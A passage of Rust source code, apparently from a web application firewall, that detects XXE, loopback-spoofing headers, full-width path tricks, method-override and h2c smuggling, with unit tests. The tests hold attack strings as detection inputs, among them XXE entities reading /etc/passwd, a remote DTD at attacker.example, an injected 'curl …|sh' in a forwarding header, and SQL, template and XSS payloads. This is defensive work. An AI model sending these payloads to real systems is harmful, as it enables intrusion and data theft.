    value.split([',', ';']).any(|p| {
        p.split_once('=').is_some_and(|(k, v)| {
            k.trim().eq_ignore_ascii_case("for") && claims_loopback(v.trim().trim_matches('"'))
        })
    })
}

/// Whether an address list (`203.0.113.7, 127.0.0.1`) has a loopback address in it.
fn claims_loopback(list: &str) -> bool {
    list.split(',').any(|entry| {
        let a = entry.trim().trim_start_matches('[');
        let a = a.split(']').next().unwrap_or(a);
        // An IPv4 address with a port (`127.0.0.1:5000`) is an address too.
        let a = match a.rsplit_once(':') {
            Some((ip, port)) if ip.contains('.') && port.bytes().all(|b| b.is_ascii_digit()) => ip,
            _ => a,
        };
        a.parse::<std::net::IpAddr>()
            .is_ok_and(|ip| ip.is_loopback())
            || a.eq_ignore_ascii_case("localhost")
    })
}

/// XML entities and DTDs, the means of XXE: an entity declaration (external entities read
/// files and URLs, nested internal ones expand a billion times), an internal DTD subset,
/// or an external DTD by a scheme other than HTTP (`file:`, `jar:`, `php:`, `expect:`...) at
/// paranoia 1; any other external DTD of a `document` (a body's own declaration) from
/// paranoia 2, since document types such as cXML, plist and SVG 1.1 name theirs by URL and
/// parsers that load them are rare. A document type inside a parameter (`{!xmlparser
/// v='<!DOCTYPE a SYSTEM "http://…">'}`, Solr's XML query parser) names a DTD for a parser
/// the request means to reach: paranoia 1 whatever its scheme when named by `SYSTEM`, unless
/// the parameter is a document itself (it starts with `<`: cXML's `cxml-urlencoded` form
/// field). A DTD by HTTP at an IP address or on a port of its own is paranoia 1 anywhere.
pub(crate) fn xml_entities(v: &Variants, document: bool, sink: &mut Sink<'_>) {
    let text = v.lower();
    if !text.contains("<!") {
        return;
    }
    let Some(doctype) = text.find("<!doctype").or_else(|| text.find("<!entity")) else {
        return;
    };
    let decl = &text[doctype..];
    let head = &decl[..decl.find(['>', '[']).map_or(decl.len(), |e| e + 1)];
    if text.contains("<!entity") || head.ends_with('[') {
        sink.hit(PROTO_XXE, text, doctype);
        return;
    }
    let external = ["system", "public"].iter().find_map(|k| {
        let at = head.find(k)?;
        let id = head[at + k.len()..].trim_start();
        // PUBLIC names a public id first, then the system id.
        let id = if *k == "public" {
            let q = id.chars().next().filter(|c| *c == '"' || *c == '\'')?;
            id[1..].split_once(q)?.1.trim_start()
        } else {
            id
        };
        let q = id.chars().next().filter(|c| *c == '"' || *c == '\'')?;
        Some(id[1..].split(q).next().unwrap_or(""))
    });
    if let Some(url) = external {
        let web = url.starts_with("http://") || url.starts_with("https://");
        // A parameter that is itself a document (`cxml-urlencoded`, an XHTML field) is one;
        // a public document type (`-//W3C//DTD XHTML 1.0 Strict//EN`) quoted in prose is none.
        let embedded = !document && !text.trim_start().starts_with('<') && head.contains("system");
        // Published document types are named by a domain on the default port; a DTD at an
        // address or a port of its own is one an attacker serves (out-of-band XXE).
        let host = url.split_once("://").map_or("", |(_, rest)| {
            rest.split(['/', '?', '#']).next().unwrap_or("")
        });
        let own_server = web
            && (host.contains(':')
                || host
                    .rsplit('.')
                    .next()
                    .is_some_and(|tld| tld.bytes().all(|c| c.is_ascii_digit())));
        if (!web && url.contains(':')) || embedded || own_server {
            sink.hit(PROTO_XXE, text, doctype);
        } else {
            sink.hit(PROTO_EXTERNAL_DTD, text, doctype);
        }
    }
}

/// Whether a segment of `path` (decoded) is Latin letters, digits and punctuation with a
/// letter in a compatibility form, full-width or mathematical (`/api/ＡＤＭＩＮ/users`,
/// `/api/𝐚𝐝𝐦𝐢𝐧`): a router that folds compatibility forms and case reads `/api/admin`, which
/// the gateway's routes and policies never saw. Japanese names mix in kana or kanji
/// (`ｉＰｈｏｎｅケース`), and stay.
fn fullwidth_segment(path: &[u8]) -> bool {
    if path.is_ascii() {
        return false;
    }
    let Ok(path) = std::str::from_utf8(path) else {
        return false;
    };
    // Mathematical alphanumerics fold to Latin letters and digits under NFKC.
    let math = |c: char| matches!(c, '\u{1D400}'..='\u{1D7FF}');
    path.split('/').any(|seg| {
        seg.chars()
            .any(|c| matches!(c, '\u{FF21}'..='\u{FF3A}' | '\u{FF41}'..='\u{FF5A}') || math(c))
            && seg
                .chars()
                .all(|c| c.is_ascii() || matches!(c, '\u{FF01}'..='\u{FF5E}') || math(c))
    })
}

/// Checks on one input's bytes.
pub(crate) fn input_checks(input: &Input, v: &Variants, sink: &mut Sink<'_>) {
    if v.had_nul || input.value.contains(&0) {
        sink.hit(PROTO_NUL, &v.raw, v.raw.find('\0').unwrap_or(0));
    }
    if input.bad_escape {
        sink.hit(PROTO_BAD_ESCAPE, &v.raw, v.raw.find('%').unwrap_or(0));
    }
    let text_kind = !matches!(input.kind, Kind::Body | Kind::FileContent);
    if text_kind && std::str::from_utf8(&input.value).is_err() {
        sink.hit(PROTO_NON_UTF8, &v.raw, 0);
    }
    if text_kind
        && v.norm()
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n'))
    {
        sink.hit(PROTO_CONTROL_CHARS, v.norm(), 0);
    }
    // Header values whose checks depend on nothing else in the request.
    match input.kind {
        Kind::TextHeader
            if input.label == "header:user-agent"
                && sink.wants(PROTO_SCANNER_UA)
                && scanner_agent(&input.value) =>
        {
            sink.hit(PROTO_SCANNER_UA, &v.raw, 0);
        }
        // A charset in Accept asks the application to answer in an encoding (EBCDIC, UTF-7)
        // that turns harmless-looking bytes into markup on the way back.
        Kind::OtherHeader
            if input.label == "header:accept"
                && sink.wants(PROTO_CHARSET)
                && v.raw.split([',', ';']).any(|p| {
                    p.split_once('=').is_some_and(|(k, v)| {
                        k.trim().eq_ignore_ascii_case("charset") && !readable_charset(v)
                    })
                }) =>
        {
            sink.hit(PROTO_CHARSET, &v.raw, 0);
        }
        // The address of the client, as a proxy in front reports it: a request from the
        // internet that claims to come from the machine itself is after a check that trusts
        // loopback (admin pages, actuator endpoints, rate-limit exemptions).
        Kind::OtherHeader
            if sink.wants(PROTO_LOOPBACK_CLIENT)
                && input
                    .label
                    .strip_prefix("header:")
                    .is_some_and(client_address_header)
                && claims_loopback(&v.raw) =>
        {
            sink.hit(PROTO_LOOPBACK_CLIENT, &v.raw, 0);
        }
        // `Forwarded` (RFC 7239) says the same with its `for=` parameters
        // (`for="[127.0.0.1]:8000"`, FortiOS's CVE-2022-40684).
        Kind::OtherHeader
            if sink.wants(PROTO_LOOPBACK_CLIENT)
                && input.label == "header:forwarded"
                && forwarded_loopback(&v.raw) =>
        {
            sink.hit(PROTO_LOOPBACK_CLIENT, &v.raw, 0);
        }
        Kind::Path | Kind::HeaderPath
            if sink.wants(PROTO_FULLWIDTH_PATH) && fullwidth_segment(&input.value) =>
        {
            sink.hit(PROTO_FULLWIDTH_PATH, &v.raw, 0);
        }
        Kind::OtherHeader
            if sink.wants(PROTO_FORWARDING_HEADER)
                && input
                    .label
                    .strip_prefix("header:")
                    .is_some_and(|name| forwarding_value_invalid(name, &input.value)) =>
        {
            sink.hit(PROTO_FORWARDING_HEADER, &v.raw, 0);
        }
        _ => {}
    }
    if matches!(input.kind, Kind::Path | Kind::HeaderPath) && sink.wants(PROTO_RESTRICTED_EXT) {
        let last = v.lower().rsplit('/').next().unwrap_or("");
        let last = last.split(';').next().unwrap_or("");
        // A key of a key-value store's API (Consul's `/v1/kv/…`, etcd's `/v2/keys/…`) is a
        // name the store holds a value under, not a file a web server sends.
        let store_key = ["/v1/kv/", "/v2/keys/"]
            .iter()
            .any(|p| v.lower().starts_with(p));
        if let Some((stem, ext)) = last.rsplit_once('.')
            && !stem.is_empty()
            && !store_key
            && super::in_list(RESTRICTED_EXTENSIONS, ext)
        {
            sink.hit(
                PROTO_RESTRICTED_EXT,
                v.lower(),
                v.lower().len().saturating_sub(last.len()),
            );
        }
        // Editor backups and swap files, also when more path follows (`/index.php~/x`).
        let backup = v.lower().split('/').any(|seg| {
            seg.strip_suffix('~')
                .is_some_and(|stem| stem.rsplit_once('.').is_some_and(|(_, e)| !e.is_empty()))
        });
        if backup || last.ends_with('~') || last.ends_with(".swp") || last.starts_with(".#") {
            sink.hit(
                PROTO_RESTRICTED_EXT,
                v.lower(),
                v.lower().len().saturating_sub(last.len()),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_are_sorted() {
        assert!(RESTRICTED_EXTENSIONS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn forwarded_for_loopback() {
        for (value, want) in [
            ("for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\";", true),
            ("for=192.0.2.60;proto=http, for=\"[::1]\"", true),
            ("for=192.0.2.60;proto=https;by=127.0.0.1", false),
        ] {
            assert_eq!(forwarded_loopback(value), want, "{value}");
        }
    }

    #[test]
    fn full_width_latin_segments() {
        for (path, want) in [
            ("/api/\u{FF21}\u{FF24}\u{FF2D}\u{FF29}\u{FF2E}/users", true),
            ("/a/x\u{FF45}\u{FF43}.json", true),
            ("/api/\u{1D41A}\u{1D41D}\u{1D426}\u{1D422}\u{1D427}", true),
            ("/api/\u{FF41}\u{FF44}\u{FF4D}\u{FF49}\u{1D427}", true),
            ("/shop/\u{FF49}\u{FF30}hone\u{30B1}\u{30FC}\u{30B9}", false),
            ("/\u{5546}\u{54C1}/\u{FF11}\u{FF12}", false),
            ("/api/admin/users", false),
        ] {
            assert_eq!(fullwidth_segment(path.as_bytes()), want, "{path}");
        }
    }

    #[test]
    fn tells_header_names_apart_without_case() {
        for (name, want) in [
            ("Host", Header::Host),
            ("user-agent", Header::UserAgent),
            ("Content-Type", Header::ContentType),
            ("CONTENT-LENGTH", Header::ContentLength),
            ("content-encoding", Header::ContentEncoding),
            ("Transfer-Encoding", Header::TransferEncoding),
            ("If", Header::Restricted),
            ("proxy", Header::Restricted),
            ("Lock-Token", Header::Restricted),
            ("content-range", Header::Restricted),
            ("Range", Header::Range { restricted: false }),
            ("request-range", Header::Range { restricted: true }),
            ("x-http-method", Header::MethodOverride),
            ("X-Method-Override", Header::MethodOverride),
            ("x-http-method-override", Header::MethodOverride),
            ("Upgrade", Header::Upgrade),
            ("HTTP2-Settings", Header::Http2Settings),
            ("X-Original-URL", Header::PathOverride),
            ("x-rewrite-url", Header::PathOverride),
            ("X-Middleware-Subrequest", Header::Internal),
            ("accept", Header::Other),
            ("hostx", Header::Other),
            ("proxy-connection", Header::Other),
            ("", Header::Other),
        ] {
            assert_eq!(Header::of(name.as_bytes()), want, "{name}");
        }
        let tchars: Vec<u8> = (0..=255u8).filter(|&b| is_tchar(b)).collect();
        assert_eq!(tchars.len(), 62 + 15);
        assert!(!is_tchar(b':') && !is_tchar(b' ') && !is_tchar(0x80) && is_tchar(b'~'));
    }

    fn request_rules(req: &RequestView<'_>) -> Vec<u32> {
        let x = crate::extract::extract(req, &crate::settings::Limits::default(), None);
        request_checks(req, &x, &|_| true)
            .into_iter()
            .map(|(r, _, _)| r)
            .collect()
    }

    #[test]
    fn method_overrides_and_internal_headers() {
        let get =
            RequestView::new("GET", b"/accounts/7").header("X-HTTP-Method-Override", "DELETE");
        let rules = request_rules(&get);
        assert!(
            rules.contains(&PROTO_SAFE_METHOD_OVERRIDE) && rules.contains(&PROTO_METHOD_OVERRIDE)
        );
        // The use override headers were made for: a POST tunnelling PATCH through a proxy.
        let post =
            RequestView::new("POST", b"/accounts/7").header("X-HTTP-Method-Override", "PATCH");
        assert!(!request_rules(&post).contains(&PROTO_SAFE_METHOD_OVERRIDE));
        let same = RequestView::new("GET", b"/a").header("X-Method-Override", "get");
        assert!(!request_rules(&same).contains(&PROTO_SAFE_METHOD_OVERRIDE));
        let next = RequestView::new("GET", b"/admin").header(
            "X-Middleware-Subrequest",
            "middleware:middleware:middleware",
        );
        assert!(request_rules(&next).contains(&PROTO_INTERNAL_HEADER));
        // Overrides that disagree, in headers, the query or a form body.
        let form = "application/x-www-form-urlencoded";
        for conflict in [
            RequestView::new("POST", b"/p/88")
                .header("X-HTTP-Method-Override", "PUT")
                .header("Content-Type", form)
                .body(b"_method=DELETE&confirm=yes"),
            RequestView::new("POST", b"/p/88?_method=delete").header("X-Method-Override", "PUT"),
            RequestView::new("POST", b"/p/88")
                .header("X-HTTP-Method", "PATCH")
                .header("X-HTTP-Method-Override", "DELETE"),
        ] {
            assert!(request_rules(&conflict).contains(&PROTO_METHOD_OVERRIDE_CONFLICT));
        }
        for agreeing in [
            RequestView::new("POST", b"/p/88?_method=patch").header("X-Method-Override", "PATCH"),
            RequestView::new("POST", b"/p/88")
                .header("Content-Type", form)
                .body(b"_method=PUT&x=1"),
            // A JSON field named `_method` is data, not an override.
            RequestView::new("POST", b"/p/88")
                .header("X-HTTP-Method-Override", "PUT")
                .header("Content-Type", "application/json")
                .body(b"{\"_method\": \"DELETE\"}"),
        ] {
            assert!(!request_rules(&agreeing).contains(&PROTO_METHOD_OVERRIDE_CONFLICT));
        }
    }

    #[test]
    fn connection_and_authorization_lists() {
        let with = |name: &str, value: &str| {
            request_rules(&RequestView::new("GET", b"/account").header(name, value))
        };
        for bad in [
            "close, X-Forwarded-For",
            "keep-alive,authorization",
            "Cookie",
            "x-real-ip, x-auth-user",
            "keep-alive, X-Original-URL",
            "X-Rewrite-URL",
            "Content-Length",
            "close, Host",
        ] {
            assert!(with("Connection", bad).contains(&PROTO_HOP_BY_HOP), "{bad}");
        }
        for good in [
            "keep-alive",
            "close",
            "Upgrade",
            "keep-alive, TE",
            "x-trace-hop",
        ] {
            assert!(
                !with("Connection", good).contains(&PROTO_HOP_BY_HOP),
                "{good}"
            );
        }
        for bad in [
            "Basic YWRtaW46YWRtaW4=, Bearer d9LrYucSChYlkWmmhucugeSb",
            "Bearer abc,basic eDp5",
            r#"Digest username="ann", realm="api", Bearer abc"#,
            // A quote that opens no parameter value, or is never closed, hides nothing.
            r#"Basic "eDp5, Bearer abc"#,
            r#"Digest realm="api, Bearer abc"#,
        ] {
            assert!(
                with("Authorization", bad).contains(&PROTO_AUTHORIZATION_LIST),
                "{bad}"
            );
        }
        for good in [
            "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x",
            r#"Digest username="ann", realm="api", nonce="n, basic", uri="/a""#,
            r#"Digest username="ann", realm="a, Bearer b", opaque="x\", basic y", uri="/a""#,
            "AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu/s3/aws4_request, SignedHeaders=host, Signature=ab",
        ] {
            assert!(
                !with("Authorization", good).contains(&PROTO_AUTHORIZATION_LIST),
                "{good}"
            );
        }
        let twice = RequestView::new("GET", b"/a")
            .header("Authorization", "Bearer a")
            .header("Authorization", "Bearer b");
        assert!(request_rules(&twice).contains(&PROTO_AUTHORIZATION_LIST));
    }

    #[test]
    fn h2c_upgrades_and_path_overrides() {
        let h2c = RequestView::new("GET", b"/internal")
            .header("Connection", "Upgrade, HTTP2-Settings")
            .header("Upgrade", "h2c");
        assert!(request_rules(&h2c).contains(&PROTO_H2C_UPGRADE));
        let ws = RequestView::new("GET", b"/chat")
            .header("Connection", "Upgrade")
            .header("Upgrade", "websocket");
        assert!(!request_rules(&ws).contains(&PROTO_H2C_UPGRADE));
        let other = RequestView::new("GET", b"/public/status")
            .header("X-Original-URL", "/admin/users/delete?id=1");
        assert!(request_rules(&other).contains(&PROTO_PATH_OVERRIDE));
        let same = RequestView::new("GET", b"/public/status?a=1")
            .header("X-Rewrite-URL", "/public/status?a=1");
        assert!(!request_rules(&same).contains(&PROTO_PATH_OVERRIDE));
    }

    #[test]
    fn loopback_client_addresses() {
        for list in [
            "127.0.0.1",
            "203.0.113.9, 127.0.0.1",
            "[::1]",
            "127.0.0.1:5000",
            "localhost",
        ] {
            assert!(claims_loopback(list), "{list}");
        }
        for list in [
            "203.0.113.9",
            "10.0.0.1, 192.168.1.2",
            "unknown",
            "[2001:db8::1]:443",
        ] {
            assert!(!claims_loopback(list), "{list}");
        }
        assert!(client_address_header("x-real-ip") && !client_address_header("x-request-id"));
    }

    #[test]
    fn byte_ranges_that_overlap_three_times_are_invalid() {
        for ok in [
            "bytes=0-499",
            "bytes=0-99,200-299,400-",
            "bytes=-500",
            "bytes=0-0,-1",
            "bytes=500-,0-99",
        ] {
            assert!(valid_byte_ranges(ok.as_bytes()), "{ok}");
        }
        for bad in [
            "bytes=0-,1-,2-,3-",
            "bytes=0-99,50-150,200-300",
            "bytes=10-5",
            "bytes=x-1",
        ] {
            assert!(!valid_byte_ranges(bad.as_bytes()), "{bad}");
        }
    }

    #[test]
    fn forwarding_headers_hold_only_addresses() {
        for (name, ok) in [
            ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
            ("x-forwarded-for", "2001:db8::1, unknown, _hidden"),
            ("x-real-ip", "[2001:db8::1]:8080"),
            ("x-forwarded-host", "api.example.com:8443"),
            ("x-forwarded-proto", "https"),
            ("x-forwarded-port", "443"),
            ("forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
            ("forwarded", "for=\"[2001:db8:cafe::17]:4711\", for=_gazonk"),
            ("x-tenant-id", "acme' --"),
            ("origin", "https://app.example.com:8443"),
            ("origin", "null"),
        ] {
            assert!(
                !forwarding_value_invalid(name, ok.as_bytes()),
                "{name}: {ok}"
            );
        }
        for (name, bad) in [
            ("x-forwarded-for", "127.0.0.1' or sleep(6)#"),
            ("x-forwarded-for", "${7*7}"),
            ("x-forwarded-host", "<svg onload=alert(1)>"),
            ("x-forwarded-host", "example.com;curl 203.0.113.5|sh"),
            ("x-real-ip", "1.2.3.4\r\nx: y"),
            ("x-forwarded-proto", "https'"),
            ("forwarded", "for=1.2.3.4;by=$(id)"),
            (
                "origin",
                "https://evil.example\"><img src=x onerror=alert(1)>",
            ),
        ] {
            assert!(
                forwarding_value_invalid(name, bad.as_bytes()),
                "{name}: {bad}"
            );
        }
    }

    #[test]
    fn validates_content_type_syntax() {
        for ok in [
            "multipart/mixed; boundary=-----b:5(1,4)+part",
            "application/json",
            "application/json; charset=utf-8",
            "multipart/form-data; boundary=----WebKit123",
            "text/plain;charset=\"utf-8\"",
            "application/json;",
        ] {
            assert!(valid_content_type(ok.as_bytes()), "{ok}");
        }
        for bad in [
            "json",
            "multipart/form-data; boundary=  x",
            "a/b; c",
            "a/b; c=\"x",
            "a/b c",
            "/x",
            "a/b;=x",
        ] {
            assert!(!valid_content_type(bad.as_bytes()), "{bad}");
        }
    }

    #[test]
    fn xml_entities_and_document_types() {
        use crate::detect::testing::{hits, rule};
        rule(
            PROTO_XXE,
            true,
            Kind::Declaration,
            "xml:!declaration",
            1,
            &[
                r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
                r#"<!DOCTYPE x SYSTEM "file:///etc/passwd">"#,
                r#"<!doctype x PUBLIC "-//A//B" 'jar:http://e.example/x.jar!/a.dtd'>"#,
                r#"<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">"#,
            ],
        );
        // In any value too: a document in a form field.
        assert!(
            hits(
                Kind::Value,
                "form:xml",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>",
                1
            )
            .contains(&PROTO_XXE)
        );
        let public = [
            r#"<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">"#,
            r#"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">"#,
        ];
        for d in public {
            assert!(
                hits(Kind::Declaration, "xml:!declaration", d, 1).is_empty(),
                "{d}"
            );
            assert!(
                hits(Kind::Declaration, "xml:!declaration", d, 2).contains(&PROTO_EXTERNAL_DTD),
                "{d}"
            );
        }
        assert!(hits(Kind::Declaration, "xml:!declaration", "<!DOCTYPE html>", 4).is_empty());
        // In a parameter, any external DTD is fetched for a parser the request reaches.
        let param =
            r#"{!xmlparser v='<!DOCTYPE a SYSTEM "http://oast.example.net:4444/x.dtd"><a></a>'}"#;
        assert!(hits(Kind::Value, "query:q", param, 1).contains(&PROTO_XXE));
        assert!(!hits(Kind::Value, "query:q", "<!DOCTYPE html><p>hi</p>", 4).contains(&PROTO_XXE));
        assert!(!hits(Kind::Value, "form:cxml-urlencoded", public[0], 1).contains(&PROTO_XXE));
        for own in [
            r#"<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://203.0.113.7/x.dtd"><r/>"#,
            r#"<!DOCTYPE r PUBLIC "-//X//Y" "https://files.example.net:8443/e.dtd">"#,
            r#"<!DOCTYPE r SYSTEM "http://[2001:db8::5]/e.dtd">"#,
        ] {
            assert!(
                hits(Kind::Declaration, "xml:!declaration", own, 1).contains(&PROTO_XXE),
                "{own}"
            );
            assert!(
                hits(Kind::Value, "form:payload", own, 1).contains(&PROTO_XXE),
                "{own}"
            );
        }
        let prose = format!("Validator rejects {}", public[1]);
        assert!(!hits(Kind::Value, "json:/post", &prose, 1).contains(&PROTO_XXE));
    }
}
